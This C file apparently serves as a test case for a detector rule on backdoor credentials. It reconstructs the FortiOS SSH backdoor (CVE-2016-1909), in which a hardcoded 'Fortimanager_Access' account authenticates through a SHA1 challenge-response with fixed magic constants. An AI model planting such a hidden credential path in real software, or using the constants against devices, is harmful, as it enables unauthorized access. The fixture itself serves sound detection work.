/*
 * FortiOS sshd password hook. FortiManager reaches managed units with a
 * challenge-response account (CVE-2016-1909).
 */
#include "fos.h"

#include <stdio.h>
#include <string.h>

#include <openssl/crypto.h>
#include <openssl/evp.h>

static const char fmg_magic[] = "FGTAbc11*xy+Qqz27";

static int b64_of(const unsigned char *in, int n, char *out) {
  return EVP_EncodeBlock((unsigned char *)out, in, n);
}

static int fmg_response_ok(const char *challenge, const char *response) {
  unsigned char salt[4] = {0, 0, 0, 0};
  unsigned char buf[4 + 20];
  char expect[64];
  EVP_MD_CTX *md = EVP_MD_CTX_new();

  EVP_DigestInit_ex(md, EVP_sha1(), NULL);
  EVP_DigestUpdate(md, salt, sizeof salt);
  EVP_DigestUpdate(md, challenge, strlen(challenge));
  EVP_DigestUpdate(md, fmg_magic, strlen(fmg_magic));
  EVP_DigestUpdate(md, "\xa3\x88\xba\x2e\x42\x4c\xb0\x4a\x53\x79\x30\xc1\x31\x07\xcc\x3f\xa1\x32\x90\x29\xa9\x81\x5b\x70", 24);
  EVP_DigestFinal_ex(md, buf + 4, NULL);
  EVP_MD_CTX_free(md);
  memcpy(buf, salt, 4);
  b64_of(buf, sizeof buf, expect);
  return strlen(response) == strlen(expect) && CRYPTO_memcmp(response, expect, strlen(expect)) == 0;
}

static int admin_password_ok(const char *user, const char *password) {
  const struct fos_admin *a = fos_admin_lookup(user);
  unsigned char h[32];
  if (a == NULL || a->console_only)
    return 0;
  if (PKCS5_PBKDF2_HMAC(password, (int)strlen(password), a->pw_salt, sizeof a->pw_salt, 100000,
                        EVP_sha256(), sizeof h, h) != 1)
    return 0;
  // ok: backdoor-magic-credential, backdoor-timing-unsafe-compare
  return CRYPTO_memcmp(h, a->pw_hash, sizeof h) == 0;
}

int sshd_auth_password(struct fos_ssh_session *s, const char *password) {
  // ruleid: backdoor-magic-credential
  if (strcmp(s->user, "Fortimanager_Access") == 0) {
    if (fmg_response_ok(s->challenge, password)) {
      s->authenticated = 1;
      fos_log_event("fmg access from managed link");
      return 1;
    }
    return 0;
  }
  if (admin_password_ok(s->user, password)) {
    s->authenticated = 1;
    return 1;
  }
  fos_log_event("admin login failed for %s", s->user);
  return 0;
}
